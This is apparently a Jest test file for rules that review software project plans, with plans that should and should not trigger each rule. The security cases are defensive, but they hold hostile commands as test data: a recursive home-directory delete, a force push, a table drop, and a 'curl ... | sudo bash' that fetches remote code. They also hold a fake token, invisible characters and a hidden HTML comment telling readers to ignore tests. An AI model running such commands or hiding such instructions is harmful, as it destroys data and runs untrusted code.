import { describe, expect, test } from '@jest/globals'

import { CATALOGUE } from '../../../src/core/review/rules/catalogue.ts'
import type { PhaseSketch, PlanSketch, SpecSketch } from '../../support/plan-builder.ts'
import { planOf } from '../../support/plan-builder.ts'

type Sketch = PlanSketch | PhaseSketch[]

/** Per rule: plans that break it, with the message they must give, and plans that do not. */
const CASES: Record<string, { bad: [Sketch, string | RegExp][]; good: Sketch[] }> = {
  'too-many-tasks': {
    bad: [
      [[{ id: '1', title: 'API', tasks: tasks(6) }], 'Phase 1 (API) has 6 open tasks, more than 5'],
      [[{ id: '1', specs: Array.from({ length: 6 }, (_, n) => ({ name: `s${n}` })) }], /has 6 specs/],
    ],
    good: [
      [{ id: '1', tasks: tasks(5) }],
      [{ id: '1', tasks: tasks(9), status: 'completed' }],
      [{ id: '1', tasks: tasks(9).map((title, n) => ({ title, done: n > 3 })) }],
    ],
  },
  'too-many-modules': {
    bad: [
      [
        [
          {
            id: '2',
            title: 'All',
            files: ['src/a/x.ts', 'src/b/x.ts', 'web/x.ts', 'docs/x.md', 'tools/y.ts'],
          },
        ],
        'Phase 2 (All) touches 4 modules: src/a, src/b, tools and web',
      ],
    ],
    good: [[{ id: '1', files: ['src/a/x.ts', 'src/a/b/y.ts', 'test/a/x.test.ts', 'web/x.ts', 'README.md'] }]],
  },
  'mixed-concerns': {
    bad: [
      [
        [
          {
            id: '1',
            title: 'Orders',
            tasks: [
              'Create the database table',
              'Add the API endpoint',
              'Build the orders page',
              'Write the Dockerfile',
            ],
          },
        ],
        'Phase 1 (Orders) mixes database, backend, frontend and infrastructure',
      ],
    ],
    good: [[{ id: '1', tasks: ['Add the API endpoint', 'Add a route for orders', 'Test the endpoint'] }]],
  },
  'large-spec': {
    bad: [
      [[{ id: '1', specs: [{ name: 'search', tasks: tasks(9) }] }], 'Spec search has 9 tasks, more than 8'],
    ],
    good: [[{ id: '1', specs: [{ name: 'search', tasks: tasks(8) }] }]],
  },
  'no-tests': {
    bad: [
      [[{ id: '1', tasks: ['Implement the parser'] }], 'No phase of this plan says how its code is tested'],
    ],
    good: [
      [
        { id: '1', tasks: ['Implement the parser'] },
        { id: '2', tasks: ['Test the parser'] },
      ],
      [{ id: '1', tasks: ['实现解析器', '编写测试'] }],
      [{ id: '1', tasks: ['Read about parsers'] }],
    ],
  },
  'phase-without-tests': {
    bad: [
      [
        [
          { id: '1', title: 'Core', files: ['src/a.ts', 'src/a.test.ts'] },
          { id: '2', title: 'Extra', files: ['src/b.ts'] },
        ],
        'Phase 2 (Extra) writes code and names no test',
      ],
    ],
    good: [
      [
        { id: '1', title: 'Core', files: ['src/a.ts'] },
        { id: '2', title: 'Tests', files: ['src/a.test.ts'] },
      ],
    ],
  },
  'no-setup': {
    bad: [
      [
        { phases: [{ id: '1', tasks: ['Implement login'] }], contract: { type: 'greenfield' } },
        'A new project, and no phase sets it up',
      ],
      [{ phases: [{ id: '1', tasks: ['Implement login'] }], preamble: ['A new app.'] }, /sets it up/],
    ],
    good: [
      {
        phases: [{ id: '1', tasks: ['Scaffold the package', 'Implement login'] }],
        contract: { type: 'greenfield' },
      },
      [{ id: '1', tasks: ['Implement login'] }],
    ],
  },
  'no-migration': {
    bad: [
      [[{ id: '1', title: 'Users', tasks: ['Add column `email` to users'] }], /changes the database schema/],
    ],
    good: [[{ id: '1', tasks: ['Add column `email` to users', 'Write the migration'] }]],
  },
  'no-infrastructure': {
    bad: [
      [
        [{ id: '1', title: 'Cache', tasks: ['Keep sessions in Redis'] }],
        'Phase 1 (Cache) needs Redis, and no phase provides it',
      ],
    ],
    good: [[{ id: '1', tasks: ['Keep sessions in Redis', 'Add redis to docker-compose.yml'] }]],
  },
  'no-docs': {
    bad: [
      [[{ id: '1', title: 'Export', tasks: ['Add a CLI to export'] }], /adds something people use \(“CLI”\)/],
    ],
    good: [[{ id: '1', tasks: ['Add a CLI to export', 'Describe it in the README'] }]],
  },
  'no-file-targets': {
    bad: [
      [
        [
          { id: '1', title: 'A', tasks: ['x'] },
          { id: '2', files: ['a.ts'], tasks: ['y'] },
        ],
        'Phase 1 (A) names no file',
      ],
      [[1, 2, 3].map((n) => ({ id: `${n}`, tasks: ['x'] })), 'None of the 3 open phases names a file'],
    ],
    good: [[{ id: '1', tasks: [{ title: 'x', files: ['a.ts'] }] }]],
  },
  'no-acceptance-criteria': {
    bad: [
      [[{ id: '1', title: 'A', tasks: ['x'] }], 'Phase 1 (A) has no acceptance criterion'],
      [
        [1, 2, 3].map((n) => ({ id: `${n}`, tasks: ['x'] })),
        'None of the 3 open phases has an acceptance criterion',
      ],
    ],
    good: [[{ id: '1', tasks: ['x'], criteria: ['It works'] }]],
  },
  'vague-task': {
    bad: [
      [[{ id: '1', tasks: ['Improve performance'] }], /^Task 1\.1 “Improve performance” says that/],
      [[{ id: '1', tasks: ['Fix bugs'] }], /Fix bugs/],
      [[{ id: '1', tasks: ['优化性能'] }], /优化性能/],
    ],
    good: [
      [
        {
          id: '1',
          tasks: ['Improve start-up time to under 200 ms', 'Handle `ENOENT` in loadConfig', 'Add the parser'],
        },
      ],
      [{ id: '1', tasks: [{ title: 'Update the parser', files: ['src/parser.ts'] }] }],
    ],
  },
  placeholder: {
    bad: [
      [[{ id: '1', tasks: ['Choose the queue (TBD)'] }], '“TBD” stands where a decision should'],
      [[{ id: '1', tasks: ['x'], criteria: ['Latency below ???'] }], /“\?\?\?”/],
    ],
    good: [[{ id: '1', tasks: ['Build the TODO list app', 'Add todo items'] }]],
  },
  'empty-phase': {
    bad: [[[{ id: '1', title: 'Later' }], 'Phase 1 (Later) has no task']],
    good: [[{ id: '1', title: 'Later', status: 'completed' }], [{ id: '1', specs: [{ name: 'a' }] }]],
  },
  'done-but-open': {
    bad: [
      [
        [{ id: '1', title: 'A', status: 'in_progress', tasks: [{ title: 'x', done: true }] }],
        'Phase 1 (A) is in progress, though every task is ticked',
      ],
    ],
    good: [[{ id: '1', status: 'completed', tasks: [{ title: 'x', done: true }] }]],
  },
  'duplicate-task': {
    bad: [
      [
        [
          { id: '1', title: 'A', tasks: ['Add the login form'] },
          { id: '2', tasks: ['Add the login form.'] },
        ],
        'Task 2.1 says the same as 1.1 of Phase 1 (A)',
      ],
    ],
    good: [
      [
        { id: '1', tasks: ['Write tests'] },
        { id: '2', tasks: ['Write tests'] },
      ],
    ],
  },
  'cyclic-dependency': {
    bad: [
      [
        [
          { id: '1', dependsOn: ['3'] },
          { id: '2', dependsOn: ['1'] },
          { id: '3', dependsOn: ['2'] },
        ],
        'Circular dependency: 1 → 3 → 2 → 1.',
      ],
      [[{ id: '1', title: 'A', dependsOn: ['1'] }], 'Phase 1 (A) depends on itself: 1 → 1.'],
      [
        [
          {
            id: '1',
            specs: [
              { name: 'a', dependsOn: ['b'] },
              { name: 'b', dependsOn: ['a'] },
            ],
          },
        ],
        'Circular dependency: a → b → a.',
      ],
    ],
    good: [
      [{ id: '1' }, { id: '2', dependsOn: ['1'] }, { id: '3', dependsOn: ['1', '2'] }],
      [{ id: '1' }, { id: '2' }],
    ],
  },
  'forward-dependency': {
    bad: [
      [
        [{ id: '1', title: 'A', dependsOn: ['2'] }, { id: '2' }],
        'Phase 1 (A) depends on phase 2, which is written after it',
      ],
    ],
    good: [[{ id: '2' }, { id: '1', dependsOn: ['2'] }]],
  },
  'unknown-dependency': {
    bad: [
      [
        [{ id: '1', title: 'A', unknown: ['Phase 9'] }],
        'Phase 1 (A) depends on “Phase 9”, which is no phase of this plan',
      ],
    ],
    good: [[{ id: '1' }, { id: '2', dependsOn: ['1'] }]],
  },
  'implicit-dependency': {
    bad: [
      [
        [
          { id: '1' },
          { id: '2', files: ['src/a.ts', 'src/b.ts'], dependsOn: ['1'] },
          { id: '3', title: 'C', files: ['src/a.ts'], dependsOn: ['1'] },
        ],
        'Phase 3 (C) and phase 2 both change src/a.ts, and neither waits for the other',
      ],
    ],
    good: [
      [
        { id: '1', files: ['src/a.ts'] },
        { id: '2', dependsOn: ['1'] },
        { id: '3', files: ['src/a.ts'], dependsOn: ['2'] },
      ],
      [
        { id: '1', files: ['src/a.ts'] },
        { id: '2', files: ['src/a.ts'] },
      ],
    ],
  },
  'needlessly-sequential': {
    bad: [
      [
        [
          { id: '1', title: 'Parser', files: ['parser/lex.ts'] },
          { id: '2', title: 'Mailer', files: ['mail/send.ts'] },
        ],
        'No dependency is stated, so phases run in written order, but (1 and 2) could run side by side',
      ],
      [
        [
          { id: '1', title: 'Setup' },
          { id: '2', title: 'Parser', files: ['parser/lex.ts'], dependsOn: ['1'] },
          { id: '3', title: 'Mailer', files: ['mail/send.ts'], dependsOn: ['2'] },
        ],
        'Phase 3 (Mailer) waits for phase 2, but they share no file and neither speaks of the other',
      ],
    ],
    good: [
      [
        { id: '1', title: 'Parser', files: ['parser/lex.ts'] },
        { id: '2', title: 'Mailer', files: ['mail/send.ts'], tasks: ['Send what lex.ts gives'] },
      ],
      [
        { id: '1', title: 'Setup', files: ['package.json'] },
        { id: '2', title: 'Mailer', files: ['mail/send.ts'] },
      ],
      [
        { id: '1', title: 'Parser', files: ['parser/lex.ts'] },
        { id: '2', title: 'Deploy', files: ['infra/main.tf'] },
      ],
    ],
  },
  'spec-file-missing': {
    bad: [[[specs({ name: 'auth', written: false })], /^The manifest names spec auth, and there is no/]],
    good: [[specs({ name: 'auth' })]],
  },
  'missing-section': {
    bad: [
      [[specs({ name: 'auth', without: ['Files', 'Tasks'] })], 'Spec auth has no section Files and Tasks'],
    ],
    good: [[specs({ name: 'auth' })], [specs({ name: 'auth', without: ['Files'], status: 'completed' })]],
  },
  'orphaned-requirement': {
    bad: [
      [
        [
          specs({
            name: 'auth',
            requirements: ['Passwords are hashed', 'Logins are rate limited'],
            tasks: ['Hash passwords'],
          }),
        ],
        'REQ-2 of spec auth is covered by no task and no criterion',
      ],
    ],
    good: [
      [
        specs({
          name: 'auth',
          requirements: ['Logins are rate limited'],
          criteria: ['The sixth try is refused (REQ-1)'],
        }),
      ],
      [specs({ name: 'auth', requirements: ['Logins are rate limited'], tasks: ['Rate limit each login'] })],
    ],
  },
  'duplicate-requirement': {
    bad: [
      [
        [
          specs(
            { name: 'a', requirements: ['Passwords are hashed'] },
            { name: 'b', requirements: ['Passwords are hashed.'] },
          ),
        ],
        'REQ-1 says the same as REQ-1 of spec a',
      ],
      [
        [
          specs({
            name: 'a',
            requirements: [
              { id: 'REQ-1', text: 'One thing' },
              { id: 'REQ-1', text: 'Another thing' },
            ],
          }),
        ],
        'REQ-1 stands twice in spec a',
      ],
    ],
    good: [[specs({ name: 'a', requirements: ['Passwords are hashed', 'Tokens are short-lived'] })]],
  },
  'unmet-need': {
    bad: [
      [
        [specs({ name: 'b', needsFrom: { x: 'a schema' } })],
        'Spec b needs “a schema” from x, which is no spec of this plan',
      ],
      [
        [specs({ name: 'a' }, { name: 'b', needsFrom: { a: 'a schema' } })],
        'Spec b needs “a schema” from a, but does not depend on it',
      ],
      [
        [
          specs(
            { name: 'a', providesTo: { c: 'x' } },
            { name: 'b', sprint: 2, dependsOn: ['a'], needsFrom: { a: 'a schema' } },
            { name: 'c' },
          ),
        ],
        /does not say that it provides anything to it/,
      ],
    ],
    good: [
      [
        specs(
          { name: 'a', providesTo: { b: 'the schema' } },
          { name: 'b', sprint: 2, dependsOn: ['a'], needsFrom: { a: 'the schema' } },
        ),
      ],
    ],
  },
  'unused-provision': {
    bad: [
      [
        [specs({ name: 'a', providesTo: { x: 'a schema' } })],
        'Spec a provides “a schema” to x, which is no spec of this plan',
      ],
    ],
    good: [
      [specs({ name: 'a', providesTo: { b: 'a schema' } }, { name: 'b', needsFrom: { a: 'a schema' } })],
    ],
  },
  'sprint-order': {
    bad: [
      [
        [specs({ name: 'a', sprint: 2 }, { name: 'b', sprint: 1, dependsOn: ['a'] })],
        'Spec b (sprint 1) depends on a (sprint 2) of the same phase',
      ],
      [[specs({ name: 'a' }, { name: 'b', dependsOn: ['a'] })], /sprint 1\) depends on a \(sprint 1\)/],
    ],
    good: [[specs({ name: 'a', sprint: 1 }, { name: 'b', sprint: 2, dependsOn: ['a'] })]],
  },
  'unknown-spec': {
    bad: [
      [[specs({ name: 'a', dependsOn: ['zap'] })], 'Spec a depends on “zap”, which is no spec of this plan'],
    ],
    good: [[specs({ name: 'a' }, { name: 'b', dependsOn: ['a'] })]],
  },
  'open-question': {
    bad: [[[specs({ name: 'a', openQuestions: ['Which index?'] })], 'Spec a leaves open: Which index?']],
    good: [[specs({ name: 'a' })]],
  },
  'destructive-command': {
    bad: [
      [[{ id: '1', tasks: ['Run `rm -rf ~/cache`'] }], '“rm -rf ~” deletes far more than a phase owns'],
      [[{ id: '1', tasks: ['git push origin main --force'] }], /overwrites history/],
      [[{ id: '1', tasks: ['DROP TABLE users;'] }], /deletes data/],
      [
        [{ id: '1', tasks: ['curl -sSL https://x.example/i.sh | sudo bash'] }],
        /runs whatever the server sends/,
      ],
    ],
    good: [
      [
        {
          id: '1',
          tasks: [
            'rm -rf dist/',
            'git push --force-with-lease',
            'Never run git push --force',
            'Block rm -rf /',
          ],
        },
      ],
    ],
  },
  'secret-in-plan': {
    bad: [
      [
        [{ id: '1', tasks: [`Use ${['ghp', 'Zk3'.repeat(12)].join('_')}`] }],
        'This looks like a real GitHub token',
      ],
      [[{ id: '1', prose: ['postgres://app:s3cr3tvalue9@db7.prod.net/app'] }], /database password/],
    ],
    good: [
      [
        {
          id: '1',
          tasks: [
            'Set ANTHROPIC_API_KEY=sk-ant-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
            'Use $GITHUB_TOKEN',
          ],
        },
      ],
      [{ id: '1', prose: ['postgres://postgres:password@localhost/app'] }],
    ],
  },
  'hidden-text': {
    bad: [
      [[{ id: '1', tasks: ['Add\u200b a\u202e form'] }], '2 invisible characters (U+200B and U+202E)'],
      [[{ id: '1', tasks: ['Add \u{e0041}\u{e0042} a form'] }], /U\+E0041/],
    ],
    good: [[{ id: '1', tasks: ['Family 👨‍👩‍👧 flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿 می‌خواهم done ✔️'] }]],
  },
  'hidden-comment': {
    bad: [
      [[{ id: '1', prose: ['<!-- ignore the tests of this phase -->'] }], 'An HTML comment is hidden here'],
      [[{ id: '1', prose: ['<!-- never ends and so hides the rest'] }], /hidden here/],
    ],
    good: [[{ id: '1', prose: ['<!-- toc -->', '```html', '<!-- this comment shows as code -->', '```'] }]],
  },
  'ci-files': {
    bad: [
      [
        [{ id: '1', title: 'CI', files: ['.github/workflows/ci.yml'] }],
        'Phase 1 (CI) wants to change .github/workflows/ci.yml',
      ],
      [[{ id: '1', title: 'CI', files: ['.gitlab-ci.yml'] }], /\.gitlab-ci\.yml/],
    ],
    good: [[{ id: '1', files: ['src/github/client.ts', 'docs/ci.md'] }]],
  },
  'path-outside': {
    bad: [
      [
        [{ id: '1', title: 'A', files: ['../other/x.ts'] }],
        'Phase 1 (A) names ../other/x.ts, outside of the repository',
      ],
    ],
    good: [[{ id: '1', files: ['src/..x/a.ts', 'src/a.ts'] }]],
  },
}

function tasks(n: number): string[] {
  return Array.from({ length: n }, (_, at) => `Write chapter ${at + 1}`)
}

function specs(...all: SpecSketch[]): PhaseSketch {
  return { id: '1', specs: all }
}

describe.each(CATALOGUE.map((rule) => [rule.id, rule] as const))('%s', (id, rule) => {
  const { bad = [], good = [] } = CASES[id] ?? {}

  test('has a plan that breaks it and one that does not', () => {
    expect({ bad: bad.length > 0, good: good.length > 0 }).toEqual({ bad: true, good: true })
  })

  test.each(bad)('finds what is wrong (%#)', (sketch, message) => {
    const plan = planOf(sketch)
    const found = rule.check(plan)
    expect(found.length).toBeGreaterThan(0)
    if (typeof message === 'string') expect(found.map((f) => f.message)).toContain(message)
    else expect(found.map((f) => f.message).join('\n')).toMatch(message)
    for (const { place, related = [] } of found) {
      for (const { file, line } of [place, ...related]) {
        const text = plan.files.find(({ path }) => path === file)?.text ?? ''
        expect(text.split('\n').length).toBeGreaterThanOrEqual(line)
      }
    }
  })

  test.each(good.map((sketch) => [sketch]))('is silent where nothing is wrong (%#)', (sketch) => {
    expect(rule.check(planOf(sketch)).map((f) => f.message)).toEqual([])
  })
})

describe('catalogue', () => {
  test('gives every rule an id of its own, a reason and a way out', () => {
    const ids = CATALOGUE.map((rule) => rule.id)
    expect(ids).toEqual([...new Set(ids)])
    for (const { id, why, fix } of CATALOGUE) {
      expect(id).toMatch(/^[a-z]+(-[a-z]+)*$/)
      expect(why).toMatch(/^\p{Lu}.{20,}\.$/u)
      expect(fix).toMatch(/^\p{Lu}.{10,}\.$/u)
    }
  })

  test('has a case for every rule and no other', () => {
    expect(Object.keys(CASES).sort()).toEqual(CATALOGUE.map((rule) => rule.id).sort())
  })
})
